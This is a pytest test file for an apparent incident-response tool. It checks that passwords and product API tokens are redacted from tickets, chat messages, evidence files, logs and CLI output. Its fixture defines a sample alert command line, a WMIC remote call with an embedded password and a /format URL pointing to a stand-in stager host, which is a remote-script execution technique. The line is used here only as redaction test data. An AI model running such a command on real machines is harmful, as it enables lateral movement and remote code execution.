"""No password of a hit reaches anybody, from the search to the ticket's attachment; what opens a
product stands nowhere but in its file."""

from __future__ import annotations

import base64
import io
import json
import logging
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from connectors.emulators.emulator import Emulator
from runner.cli import main
from runner.cli_log import JsonFormatter
from runner.evidence import evidence_file
from runner.journal import cases
from tests.world import World, running_world

SECRET = "Zq7kX9wJ"
LINE = (
    f'wmic /node:WS02 /user:CORP\\a /password:"{SECRET} x" os get'
    f' /format:"https://u:{SECRET}@stager.example.test/a.xsl"'
)


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    with running_world(tmp_path) as found:
        found.arm()
        found.hit(cmdline=LINE, parent_process=f"cmd /c {LINE}")
        found.tick()
        yield found


def test_card_and_ticket_show_the_line_without_its_secrets(world: World) -> None:
    world.yes(world.question())
    world.ticks(3, 60)
    for shown in (json.dumps(world.cards()), world.ticket_texts()[1]):
        assert SECRET not in shown
        assert "/node:WS02" in shown
        assert "***" in shown
    assert SECRET not in json.dumps(world.jira.all_issues())


def test_evidence_and_terminal_show_it_without_them_too(
    world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    case = world.case()
    with world.journal.read() as tx:
        evidence = evidence_file(tx, case).decode()
    assert SECRET not in evidence
    assert "/password:" in evidence
    config = str(world.folder / "config.yaml")
    for more in ([], ["--json"]):
        assert main(["show", world.case().id, "--config", config, *more]) == 0
        said = capsys.readouterr().out
        assert SECRET not in said
        assert "stager.example.test" in said


def test_journal_keeps_the_raw_line(world: World) -> None:
    case = world.case()
    with world.journal.read() as tx:
        assert cases.read_alert(tx, case.alert_id).cmdline == LINE


# -- what opens the products -----------------------------------------------------------------------


@contextmanager
def everything_logged() -> Iterator[io.StringIO]:
    """All that any logger says, down to the last detail, as the JSON log writes it."""
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(JsonFormatter())
    root, level = logging.getLogger(), logging.getLogger().level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        yield written
    finally:
        root.removeHandler(handler)
        root.setLevel(level)


def keys_of(world: World) -> dict[str, str]:
    """Each credential by name, and each token that was given for one; names that open nothing are
    none."""
    found = {
        f"{product}.{name}": value
        for product, credentials in world.emulators.credentials().items()
        for name, value in credentials.items()
        if name not in ("username", "email")
    }
    found |= {f"falcon token {n}": token for n, token in enumerate(world.falcon._tokens)}
    return found


def spellings(keys: dict[str, str]) -> dict[str, bytes]:
    """As they are, and as a basic authorization carries them."""
    found = {name: value.encode() for name, value in keys.items()}
    # Of a basic authorization, the part that no name before it can shift.
    for shift in range(3):
        coded = base64.b64encode(b"-" * shift + keys["jira.api_token"].encode())
        found[f"jira.api_token, coded {shift}"] = coded[4:-4]
    return found


def outage(world: World, product: Emulator, key: str) -> tuple[str, ...]:
    """A product refuses all for a round, and repeats in its error what it was given; what the round
    says of it."""
    echo = f"no good: Bearer {key}, {key}"
    body = json.dumps({"error": echo, "errorMessages": [echo], "errors": [{"message": echo}]})
    product.misbehave(path="*", status=503, body=body, times=None)
    (told,) = world.ticks(1, 60)
    product.behave()
    return told.errors


def shown_everywhere(world: World) -> dict[str, bytes]:
    """What people and other programs can see of a case, by where."""
    issues = world.jira.all_issues()
    files = [a["id"] for issue in issues for a in issue["fields"]["attachment"]]
    assert files, "evidence was attached"
    state = world.config.state_dir
    return {
        "tickets": json.dumps(issues).encode(),
        "attachments": b"".join(map(world.jira.file, files)),
        "chat": json.dumps(world.slack.messages()).encode(),
        **{path.name: path.read_bytes() for path in state.iterdir()},
    }


def said_by_commands(world: World, capsys: pytest.CaptureFixture[str]) -> dict[str, bytes]:
    case, pack = world.cases()[0].id, world.folder / "case.zip"
    config = ["--config", str(world.folder / "config.yaml"), "--verbose", "--log-format", "json"]
    said = {}
    for words in (
        ["show", case],
        ["show", case, "--json"],
        ["cases", "--json"],
        ["status", "--json"],
        ["check"],
        ["report", "--since", "2d"],
        ["export", case, "--out", str(pack)],
        ["audit", "verify"],
    ):
        main([*words, *config])
        captured = capsys.readouterr()
        said[" ".join(words)] = (captured.out + captured.err).encode()
    with zipfile.ZipFile(pack) as opened:
        said["the pack"] = b"".join(opened.read(name) for name in opened.namelist())
    return said


def test_no_key_of_a_product_is_seen_anywhere_in_a_whole_case(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with everything_logged() as log, running_world(tmp_path) as world:
        world.arm()
        keys = keys_of(world)
        world.hit()
        told = [*outage(world, world.splunk, keys["splunk.token"])]
        told += outage(world, world.jira, keys["jira.api_token"])
        world.ticks(3, 60)
        told += outage(world, world.slack, keys["slack.token"])
        world.ticks(2, 60)
        world.yes(world.question())
        world.ticks(3, 60)
        world.clock.advance(900)
        told += outage(world, world.falcon, keys["falcon.client_secret"])
        world.ticks(3, 60)
        assert world.contains() == ["WORKSTATION5"]
        keys |= keys_of(world)
        assert any(name.startswith("falcon token") for name in keys)
        seen = shown_everywhere(world) | said_by_commands(world, capsys)
        seen["the log"] = log.getvalue().encode()
        seen["the ticks"] = "\n".join(told).encode()
        for product in (b"splunk", b"Slack", b"Falcon", b"Jira"):
            assert product + b": HTTP 503" in seen["the ticks"], "else it repeated no key"
        for where, content in seen.items():
            found = [name for name, key in spellings(keys).items() if key in content]
            assert found == [], where
